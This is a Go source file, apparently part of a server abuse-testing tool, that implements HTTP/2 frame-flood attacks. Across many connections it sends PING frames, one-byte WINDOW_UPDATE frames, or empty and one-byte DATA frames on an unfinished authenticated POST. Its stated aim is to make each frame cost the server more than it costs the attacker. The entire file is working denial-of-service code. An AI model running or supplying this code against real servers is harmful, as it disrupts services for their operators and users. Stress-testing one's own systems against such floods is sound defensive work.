package abuse

import (
	"bytes"
	"context"
	"io"

	"golang.org/x/net/http2"
)

// Frames floods connections with frames that cost the server more than the attacker.
type Frames struct {
	Connections int
	Kind        Kind
	Path        string // of a POST without an end, whose body Empty and Pieces are
}

// Kind is the kind of the frames.
type Kind int

const (
	Pings   Kind = iota
	Windows      // of one byte
	Empty        // DATA without a byte
	Pieces       // DATA of a byte
)

// atOnce is how many frames are written at once, and mostPieces how many bytes the window of a stream allows.
const atOnce, mostPieces = 1_000, 60_000

// Attack implements Attacker.
func (f Frames) Attack(ctx context.Context, t *Target, tokens []string) (Tally, error) {
	return t.hold(ctx, f.Connections, firstWindow, &counter{}, func(c *conn, i int) string {
		go func() { _, _ = io.Copy(io.Discard, c.Conn) }()
		if f.flood(c, tokens, i) != nil {
			return Cut
		}
		return ""
	})
}

// flood writes frames until the connection ends, or the window is used up.
func (f Frames) flood(c *conn, tokens []string, i int) error {
	var stream uint32
	if f.Kind == Empty || f.Kind == Pieces {
		fields := map[string]string{"authorization": "Bearer " + tokens[i%len(tokens)], "content-type": "application/json"}
		var err error
		if stream, err = c.open(c.request("POST", f.Path, fields), false); err != nil {
			return err
		}
	}
	var batch bytes.Buffer
	to := http2.NewFramer(&batch, nil)
	for range atOnce {
		var err error
		switch f.Kind {
		case Pings:
			err = to.WritePing(false, [8]byte{})
		case Windows:
			err = to.WriteWindowUpdate(0, 1)
		case Empty:
			err = to.WriteData(stream, false, nil)
		case Pieces:
			err = to.WriteData(stream, false, []byte(" "))
		}
		if err != nil {
			return err
		}
	}
	for n := 0; f.Kind != Pieces || n < mostPieces; n += atOnce {
		if _, err := c.Write(batch.Bytes()); err != nil {
			return err
		}
	}
	return nil
}
